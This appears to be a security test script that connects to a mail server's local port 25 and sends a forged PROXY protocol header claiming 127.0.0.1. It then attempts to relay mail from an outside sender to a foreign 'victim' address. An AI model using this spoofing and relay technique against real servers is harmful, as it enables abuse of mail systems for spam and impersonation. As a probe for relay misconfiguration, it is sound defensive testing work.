# Claims 127.0.0.1 on the mail server's own port 25 and tries to relay, waiting for each answer as SMTP requires.
set -u
exec 3<>/dev/tcp/127.0.0.1/25
answer() {
  while IFS= read -r -t 30 line <&3; do
    printf '%s\n' "$line"
    case $line in [0-9][0-9][0-9]\ *) return ;; esac
  done
  echo "no answer in 30 s"
  exit 1
}
printf 'PROXY TCP4 127.0.0.1 127.0.0.1 4711 25\r\n' >&3
answer
printf 'EHLO other-pod.example.test\r\n' >&3
answer
printf 'MAIL FROM:<someone@elsewhere.test>\r\n' >&3
answer
printf 'RCPT TO:<victim@foreign.test>\r\n' >&3
answer
printf 'QUIT\r\n' >&3
answer
